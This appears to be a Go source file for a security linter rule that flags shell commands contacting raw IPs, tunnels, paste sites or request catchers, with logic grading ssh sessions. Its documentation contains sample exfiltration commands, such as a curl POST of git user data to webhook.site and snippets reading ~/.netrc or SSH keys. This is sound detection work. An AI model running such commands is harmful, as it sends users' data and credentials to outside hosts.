package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellSuspiciousDestination reports network commands aimed at hosts that
// legitimate skills rarely use.
var ShellSuspiciousDestination = register(&analyzer.Rule{
	ID:       "SV721",
	Name:     "suspicious-network-destination",
	Title:    "Command contacts a raw IP, paste site, tunnel, file drop or request catcher",
	Severity: High,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "CWE-200", "CWE-494"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds network commands (` + "`curl`" + `, ` + "`wget`" + `, ` + "`nc`" + `, ` + "`ssh`" + `, ` + "`scp`" + `, ` + "`iwr`" + `, …) whose
destination is a host class that payloads and stolen data travel through rather than
real services:

- **high**: a public raw IP address (for ssh, see below), a tunnel (ngrok,
  trycloudflare, serveo, …) or a request catcher (webhook.site, pipedream,
  interactsh/oast, Discord webhooks, …);
- **medium**: a paste site, an anonymous file host or a URL shortener, and a tunnel whose
  subdomain is a placeholder for the reader's own (` + "`https://your-ngrok-url.ngrok.io/webhook`" + `,
  ` + "`abc123.ngrok-free.app`" + `: testing a webhook through one's own tunnel), and a request catcher whose
  bin or token is a placeholder (` + "`https://webhook.site/your-uuid`" + `, ` + "`…/<token>`" + `: the reader's own bin, to
  see what a test event looks like; a real bin id stays **high**).

**ssh to a raw IP** (as its destination, or as the address ` + "`-o HostName=`" + ` gives a named destination) is graded by what the session does. An interactive login
(` + "`ssh ops@203.0.113.7`" + `, with ` + "`-L`" + `/` + "`-D`" + ` forwards) or a command the remote host runs
(` + "`ssh ops@203.0.113.7 \"docker compose logs\"`" + `, a quoted here-document script) is remote
administration of a server the user holds an account on: nothing local is sent and
nothing comes back to run, so it is **medium**. It stays **high** when local data goes
to the host (a pipe into ssh, ` + "`< file`" + `, a here-document or remote command that expands
command output or a secret-named variable here, ` + "`\"echo $(cat ~/.netrc)\"`" + `), when the
host's output runs here (piped into a shell, ` + "`eval \"$(ssh …)\"`" + `, ` + "`bash <(ssh …)`" + `, a variable
holding it run as code, or a file it is saved to then run), for a reverse
tunnel (` + "`-R`" + `, ` + "`RemoteForward`" + `) and for agent forwarding (` + "`-A`" + `, ` + "`ForwardAgent=yes`" + `: the
host can use the user's keys while the session lasts). Addresses in the remote command are where the remote
host's own network commands connect, if any (` + "`ssh vps 'fail2ban-client unbanip 198.51.100.9'`" + `
contacts only ` + "`vps`" + `); ` + "`scp`" + `, ` + "`sftp`" + `, ` + "`rsync`" + ` and raw-IP ` + "`curl`" + `/` + "`wget`" + `/` + "`nc`" + ` stay high.

URLs inside the data a command sends or its headers (` + "`curl -d '{\"url\": \"https://x.ngrok.io\"}'`" + `,
registering a webhook with the API it calls) are not where it connects and are not reported here,
nor is a resolver or local address (` + "`--dns-servers 8.8.8.8`" + `, ` + "`--interface`" + `). The address of
` + "`--resolve HOST:PORT:ADDR`" + ` or ` + "`--connect-to`" + ` is where the request goes over plain http or with
` + "`-k`" + `/` + "`--insecure`" + ` (whoever holds the address answers): reported; over https with the certificate
checked (port 443 when the command is shortened and shows no URL), the named host must still answer
for itself (a site's origin reached behind its CDN): not.

Private, loopback and link-local addresses are not reported (cloud metadata has its
own rule, SV253). The remote-execution and exfiltration rules raise this to
critical when the content is run or secrets are sent.

**Fix:** use the service's real, documented domain over https; allowlist internal
hosts in ` + "`.skillvet.yaml`" + `.

Bad:

` + "```sh" + `
curl -s -X POST https://webhook.site/3f1c… -d "$(git config --get user.email)"
` + "```" + `

Good:

` + "```sh" + `
curl -s https://api.github.com/repos/acme/tool/releases/latest
` + "```",
	Run: shRunSuspiciousDestination,
})

var shIPv4Rx = match.MustRx(`(^|[@/:=\s])(\d{1,3}(?:\.\d{1,3}){3})($|[:/\s])`)

var shNetCommands = map[string]bool{"nc": true, "ncat": true, "netcat": true, "ssh": true, "scp": true, "sftp": true,
	"rsync": true, "telnet": true, "socat": true, "ftp": true, "tftp": true, "git": true}

// shDest is one host a command talks to and the role it plays there.
type shDest struct {
	host string
	// login: the host ssh logs in to (its destination or a -J jump
	// host): what ssh does there is judged by sshRole.
	login bool
	// remote: the program, in ssh's remote command, that contacts host
	// from the remote machine ("" when the command itself does).
	remote string
	// elided: the URL's path is only placeholders (webhook.site/your-uuid):
	// no bin or token, so a catcher delivers to nobody yet.
	elided bool
}

// shDestinations returns the hosts a network command talks to.
func shDestinations(c *shell.Command) []shDest {
	return shDestinationsAt(c, 0)
}

func shDestinationsAt(c *shell.Command, depth int) []shDest {
	var hosts []shDest
	if shellfacts.IsDownloader(c) {
		for _, u := range shellfacts.TargetURLs(c) {
			if h, _ := intel.URLClass(u); h != "" {
				hosts = append(hosts, shDest{host: h, elided: intel.ElidedURL(shell.Unblank(u))})
			}
		}
		return hosts
	}
	if c.Name == "ssh" {
		return shSSHDestinations(c, depth)
	}
	if _, ok := shellfacts.SendsData(c); !ok && !shNetCommands[c.Name] {
		return nil
	}
	for _, w := range c.Params() {
		hosts = append(hosts, shWordHosts(c, w, false)...)
	}
	return hosts
}

// shWordHosts returns the hosts one argument word names: the URLs in it,
// else a raw IPv4 address and the host after user@.
func shWordHosts(c *shell.Command, w shell.Word, login bool) []shDest {
	var hosts []shDest
	if m := intel.URLRx.FindAllString(w.Value, -1); m != nil {
		for _, u := range m {
			if h, _ := intel.URLClass(u); h != "" {
				hosts = append(hosts, shDest{host: h, login: login, elided: intel.ElidedURL(shell.Unblank(u))})
			}
		}
		return hosts
	}
	if m := shIPv4Rx.FindStringSubmatch(w.Value); m != nil {
		hosts = append(hosts, shDest{host: m[2], login: login})
	}
	if i := strings.IndexByte(w.Value, '@'); i >= 0 && c.Name != "curl" {
		h := w.Value[i+1:]
		if j := strings.IndexAny(h, ":/"); j >= 0 {
			h = h[:j]
		}
		hosts = append(hosts, shDest{host: h, login: login})
	}
	return hosts
}

// shSSHValueOpts are the ssh options that take a value (ssh(1)); the
// others (-4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V -v -X -x
// -Y -y) are flags that may be clustered before one of these.
const shSSHValueOpts = "BbcDEeFIiJLlmOoPpQRSWw"

// shSSHLine is an ssh command line read by role.
type shSSHLine struct {
	dest    int          // index in Argv of the destination, 0 when none
	opts    []shSSHOpt   // options with their values
	command []shell.Word // the remote command's words
}

type shSSHOpt struct {
	letter byte
	value  shell.Word
}

// shReadSSH splits an ssh command line into options, destination and
// remote command: the first word that is not an option or an option's
// value is the destination; options may follow it (ssh host -R …); from
// the next word that is not one on, the words are the command the remote
// host runs (joined with spaces, as ssh sends it).
func shReadSSH(c *shell.Command) shSSHLine {
	var l shSSHLine
	for i := 1; i < len(c.Argv); i++ {
		w := c.Argv[i]
		v := w.Value
		if v == "--" {
			switch {
			case l.dest > 0:
				l.command = c.Argv[i+1:]
			case i+1 < len(c.Argv):
				l.dest = i + 1
				l.command = c.Argv[i+2:]
			}
			return l
		}
		if len(v) < 2 || v[0] != '-' {
			if l.dest > 0 {
				l.command = c.Argv[i:]
				return l
			}
			l.dest = i // ssh reads options after the destination too (ssh host -R …)
			continue
		}
		for k := 1; k < len(v); k++ {
			if strings.IndexByte(shSSHValueOpts, v[k]) < 0 {
				continue
			}
			val := shell.Word{Value: v[k+1:], Const: w.Const, Subst: w.Subst, Start: w.Start, End: w.End, Raw: w.Raw}
			if k+1 == len(v) && i+1 < len(c.Argv) {
				i++
				val = c.Argv[i]
			}
			l.opts = append(l.opts, shSSHOpt{letter: v[k], value: val})
			break
		}
	}
	return l
}

// shSSHDestinations: the destination and -J jump hosts are the hosts ssh
// logs in to; hosts in other options' values (a ProxyCommand, a forward)
// keep their class; in the remote command, only the network commands the
// remote host runs contact anything (fail2ban-client banip 1.2.3.4 names
// an address, it does not connect to it).
func shSSHDestinations(c *shell.Command, depth int) []shDest {
	l := shReadSSH(c)
	var hosts []shDest
	for _, o := range l.opts {
		jump := o.letter == 'J' || o.letter == 'o' && strings.HasPrefix(strings.ToLower(o.value.Value), "proxyjump")
		if jump {
			for _, part := range strings.Split(o.value.Value, ",") {
				hosts = append(hosts, shWordHosts(c, shell.Word{Value: part}, true)...)
			}
			continue
		}
		if lv := strings.ToLower(o.value.Value); o.letter == 'o' && strings.HasPrefix(lv, "hostname") {
			// -o HostName=ADDR is the address the destination's login
			// connects to: the same session, graded by what it does
			if v := strings.TrimLeft(o.value.Value[len("hostname"):], " \t="); v != "" {
				hosts = append(hosts, shWordHosts(c, shell.Word{Value: v}, true)...)
			}
			continue
		}
		hosts = append(hosts, shWordHosts(c, o.value, false)...)
	}
	if l.dest > 0 {
		d := c.Argv[l.dest]
		if strings.HasPrefix(d.Value, "ssh://") || strings.Contains(d.Value, "@") || shIPv4Rx.MatchString(d.Value) {
			hosts = append(hosts, shWordHosts(c, d, true)...)
		} else if intel.ClassifyHost(d.Value).Suspicious() {
			hosts = append(hosts, shDest{host: d.Value, login: true})
		}
	}
	if len(l.command) == 0 || depth >= 2 {
		return hosts
	}
	parts := make([]string, len(l.command))
	for i, w := range l.command {
		parts[i] = w.Value
	}
	remote := shell.Parse(strings.Join(parts, " "), 0)
	for _, rc := range remote.Commands {
		for _, d := range shDestinationsAt(rc, depth+1) {
			if d.remote == "" {
				d.remote = rc.Name
			}
			d.login = false
			hosts = append(hosts, d)
		}
	}
	return hosts
}

// shSSHForwardAgentRx matches -o ForwardAgent=yes (or a socket path).
var shSSHForwardAgentRx = match.MustRx(`(?i)^\s*forwardagent\s*[= ]\s*(?:yes|true|[$~/])`)

// shSSHAgentFlag reports -A among ssh's options (before the remote
// command, in a flag cluster before any option that takes a value).
func shSSHAgentFlag(c *shell.Command, l shSSHLine) bool {
	end := len(c.Argv)
	if len(l.command) > 0 {
		end = len(c.Argv) - len(l.command)
	}
	for i := 1; i < end; i++ {
		v := c.Argv[i].Value
		if len(v) < 2 || v[0] != '-' || v == "--" {
			continue
		}
		for k := 1; k < len(v); k++ {
			if v[k] == 'A' {
				return true
			}
			if strings.IndexByte(shSSHValueOpts, v[k]) >= 0 {
				if k+1 == len(v) {
					i++ // the value is the next word
				}
				break
			}
		}
	}
	return false
}

// shSSHRole judges an ssh session with a host reached by raw address:
// remote administration (medium) unless local data goes to the host or
// the host's output runs here (high). It returns the severity and the
// reason. idx is c's index in s.Commands.
func shSSHRole(s *shell.Script, idx int, c *shell.Command, host string) (analyzer.Severity, string) {
	l := shReadSSH(c)
	for _, o := range l.opts {
		if o.letter == 'R' || o.letter == 'o' && strings.HasPrefix(strings.ToLower(o.value.Value), "remoteforward") {
			return High, "; opens a reverse tunnel into this machine (-R)"
		}
		if o.letter == 'o' && shSSHForwardAgentRx.MatchString(o.value.Value) {
			return High, "; forwards the local ssh-agent to it (ForwardAgent): the host can sign with the user's keys"
		}
	}
	if shSSHAgentFlag(c, l) {
		return High, "; forwards the local ssh-agent to it (-A): the host can sign with the user's keys"
	}
	if c.PipePrev >= 0 {
		return High, "; sends it what is piped in"
	}
	for _, r := range c.Redirs {
		if r.Fd != "" && r.Fd != "0" {
			continue
		}
		switch r.Op {
		case "<", "<>":
			return High, "; sends it the file " + shellfacts.ClipText(r.Target.Value, 60)
		case "<<", "<<-":
			if r.Body != nil && shSSHLocalData(*r.Body) {
				return High, "; the here-document it sends expands local data"
			}
		case "<<<":
			if shSSHLocalData(r.Target) {
				return High, "; the here-string it sends expands local data"
			}
		}
	}
	for _, w := range l.command {
		if shSSHLocalData(w) {
			return High, "; its remote command carries local data (" + shellfacts.ClipText(w.Value, 60) + ")"
		}
	}
	if k := shellfacts.PipeSinkInterp(s, c); k != nil {
		return High, "; its output is piped into " + k.Name + " and runs here"
	}
	// the runner encloses the ssh (eval "$(ssh …)") or comes after it
	// (out=$(ssh …); sh -c "$out")
	var runner *shell.Command
	shellfacts.Ancestors(s, c, func(a *shell.Command) bool {
		if shRunsSSHOutput(a, host) {
			runner = a
		}
		return runner == nil
	})
	for _, n := range shellfacts.Ahead(s, idx) {
		if runner == nil && shRunsSSHOutput(n, host) {
			runner = n
		}
	}
	if runner != nil {
		return High, "; its output runs here (" + shellfacts.ClipText(runner.Text(), 60) + ")"
	}
	if f := shSSHOutputFile(s, c); f != "" {
		for _, n := range shellfacts.Ahead(s, idx) {
			if shellfacts.RunsFile(n, f) {
				return High, "; its output is saved to " + f + " and run (" + shellfacts.ClipText(n.Text(), 60) + ")"
			}
		}
	}
	if len(l.command) == 0 && !shSSHHasStdin(c) {
		return Medium, "; an interactive login: remote administration of a server the user has an account on"
	}
	return Medium, "; a command the remote host runs: remote administration of a server the user has an account on"
}

func shSSHHasStdin(c *shell.Command) bool {
	for _, r := range c.Redirs {
		if strings.HasPrefix(r.Op, "<") && (r.Fd == "" || r.Fd == "0") {
			return true
		}
	}
	return false
}

// shSSHLocalData reports a word of what ssh sends that expands local
// data: command output ($(cat ~/.ssh/id_rsa), or a variable assigned
// from it) or a variable named for a secret ($GITHUB_TOKEN). Quoted for
// the remote shell ('echo $HOME'), nothing expands here.
func shSSHLocalData(w shell.Word) bool {
	if w.Const {
		return false
	}
	if w.Subst {
		return true
	}
	for _, m := range shVarRefRx.FindAllStringSubmatch(w.Value, -1) {
		if intel.SecretEnvName(m[1]) {
			return true
		}
	}
	return false
}

var shVarRefRx = match.MustRx(`\$\{?([A-Za-z_][A-Za-z0-9_]*)`)

// shRunsSSHOutput reports whether n runs, as code, text that holds an
// ssh to host's output: eval "$(ssh h cat x)", bash <(ssh h cat x),
// sh -c "$out" with out=$(ssh h …), source <(ssh …).
func shRunsSSHOutput(n *shell.Command, host string) bool {
	if !shellfacts.IsInterpreter(n.Name) {
		return false
	}
	holds := func(w shell.Word) bool {
		return w.Subst && strings.Contains(w.Value, "ssh") && strings.Contains(w.Value, host)
	}
	params := n.Params()
	switch n.Name {
	case "eval", "source", ".", "iex", "invoke-expression":
	default:
		if p, _, ok := shellfacts.CommandProgram(n); ok {
			if p.Index >= 0 && p.Index < len(params) && (p.Kind == shellfacts.ProgramInline || p.Kind == shellfacts.ProgramFile) {
				return holds(params[p.Index])
			}
			return false
		}
	}
	for _, w := range params {
		if holds(w) {
			return true
		}
	}
	return false
}

// shSSHOutputFile is the file ssh's output is written to (> f, | tee f).
func shSSHOutputFile(s *shell.Script, c *shell.Command) string {
	for _, r := range c.Redirs {
		if (r.Op == ">" || r.Op == ">>" || r.Op == ">|") && (r.Fd == "" || r.Fd == "1") && r.Target.Value != "/dev/null" {
			return r.Target.Value
		}
	}
	if c.PipeNext >= 0 && c.PipeNext < len(s.Commands) {
		if t := s.Commands[c.PipeNext]; t.Name == "tee" {
			for _, w := range t.Params() {
				if !strings.HasPrefix(w.Value, "-") {
					return w.Value
				}
			}
		}
	}
	return ""
}

func shRunSuspiciousDestination(p *analyzer.Pass) error {
	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
		for idx, c := range site.Script.Commands {
			shReportDestination(p, site, idx, c)
		}
	})
}

func shReportDestination(p *analyzer.Pass, site *analyzer.ShellSite, idx int, c *shell.Command) {
	for _, d := range shDestinations(c) {
		h := d.host
		if p.Config.HostAllowed(h) {
			continue
		}
		cl := intel.ClassifyHost(h)
		if !cl.Suspicious() || cl == intel.HostMiningPool {
			continue
		}
		sev, note := Medium, ""
		switch {
		case cl == intel.HostTunnel && intel.PlaceholderSubdomain(h):
			// https://your-ngrok-url.ngrok.io/webhook: the reader's
			// own tunnel to their own machine, named as a shape
			note = "; the subdomain is a placeholder for the user's own tunnel"
		case cl == intel.HostCatcher && d.elided:
			// https://webhook.site/your-uuid: the bin is left for the
			// reader to fill in with their own; nobody receives this
			note = "; the bin or token is a placeholder for the user's own"
		case cl == intel.HostRawIP && d.login:
			sev, note = shSSHRole(site.Script, idx, c, h)
		case cl == intel.HostRawIP, cl == intel.HostTunnel, cl == intel.HostCatcher:
			sev = High
		}
		who := c.Name
		if d.remote != "" {
			who = c.Name + "'s remote command (" + d.remote + ")"
		}
		shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Severity: sev,
			Message: who + " contacts " + h + " (" + cl.String() + ")" + note + shellfacts.Where(site)})
		return
	}
}
